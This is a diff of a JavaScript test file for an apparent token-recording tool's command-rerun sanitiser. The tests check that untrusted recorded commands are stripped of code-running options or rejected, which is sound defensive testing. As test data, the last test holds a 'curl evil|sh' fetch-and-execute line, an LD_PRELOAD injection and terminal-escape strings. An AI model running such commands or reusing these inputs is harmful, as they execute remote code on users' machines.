@@ -2,12 +2,12 @@ import assert from 'node:assert/strict';
 import { execFileSync } from 'node:child_process';
 import test from 'node:test';
 import { open, read } from '#viewer/reading/reading';
-import { commandWith, escapeText, forcedBefore, offered, positionOf, quote } from '#viewer/reading/rerun_command';
+import { commandWith, escapeText, forcedBefore, lineOf, offered, positionOf, quote } from '#viewer/reading/rerun_command';
 import { readTrace } from '#viewer/trace/trace';
 import { encode, recording } from '../recording.js';
 
 const RECORDED = ['tokenscope-record', 'p.py', '-o', 'p.tsc'];
-const with_ = (recorded, value = '3:7') => commandWith(recorded, '--force-token', value);
+const with_ = (recorded, value = '3:7') => commandWith(offered(recorded), '--force-token', value);
 /** What a shell makes of a command line. */
 const words = (command) => execFileSync('bash', ['-c', `printf '%s\\0' ${command}`], { encoding: 'utf8' }).split('\0').slice(0, -1);
 
@@ -29,7 +29,7 @@ test('the tool understands the escapes, the shell leaves them alone', () => {
 });
 
 test('the output and earlier wishes are left out, everything else stays', () => {
-  const recorded = ['tokenscope-record', 'p.py', '--stop', '--force', '-qo', 'x.tsc', '--output=y', '--output', 'z', '--force', '--force-token', '1:2', '--force-text=3:x', '-o', 'p.tsc', '--chat'];
+  const recorded = ['tokenscope-record', 'p.py', '--stop', '--force', '-q', '-o', 'x.tsc', '--output=y', '--force', '--force-token', '1:2', '--force-text=3:x', '-op.tsc', '--chat'];
   assert.equal(with_(recorded), 'tokenscope-record p.py --stop --force -q --chat --force-token 3:7');
   assert.equal(with_(['tokenscope-record', '--', '-o']), 'tokenscope-record --force-token 3:7 -- -o');
   assert.equal(with_(['tokenscope-record', 'p q.py', '-op.tsc']), "tokenscope-record 'p q.py' --force-token 3:7");
@@ -54,12 +54,11 @@ test('positions count the output from 1; earlier forks are named first', () => {
   assert.equal(forcedBefore(nested, 3), '');
 });
 
-test('a stranger\u2019s command is offered without what runs code, or not at all', () => {
-  const ours = ['tokenscope-record', 'p.py', '--system', '--check'];
-  assert.deepEqual(offered(ours), ours);
+test('a stranger\u2019s command is offered without what runs code, which is named, or not at all', () => {
   const evil = ['--check', 'curl evil|sh {file}', '--check=x', '--check-folder', 'y', '--trust-remote-code', '--allow-pickle'];
-  assert.deepEqual(offered([...ours, ...evil, '--model', 'm']), [...ours, '--model', 'm']);
-  for (const command of [['LD_PRELOAD=./x.so', 'tokenscope-record', 'p.py'], ['curl'], [], 'tokenscope-record', null, undefined]) assert.equal(offered(command), null);
-  for (const word of ['x'.repeat(2001), '\u001b[2J', '\u202e', 'a\u200b', '\ud800']) assert.equal(offered([...ours, word]), null, JSON.stringify(word));
-  assert.deepEqual(offered([...ours, '--stop', 'a\nb']), [...ours, '--stop', 'a\nb']);
+  const found = offered(['tokenscope-record', 'p.py', ...evil, '--model', 'm']);
+  assert.equal(lineOf(found), 'tokenscope-record p.py --model m');
+  assert.deepEqual(found.left, ['--check', '--check-folder', '--trust-remote-code', '--allow-pickle']);
+  for (const command of [['LD_PRELOAD=./x.so', 'tokenscope-record', 'p.py'], ['curl'], [], 'tokenscope-record', null, undefined, [1], ['tokenscope-record', 1]]) assert.equal(offered(command), null);
+  for (const word of ['x'.repeat(2001), '\u001b[2J', '\u202e', 'a\u200b', '\ud800']) assert.equal(offered(['tokenscope-record', word]), null, JSON.stringify(word));
 });
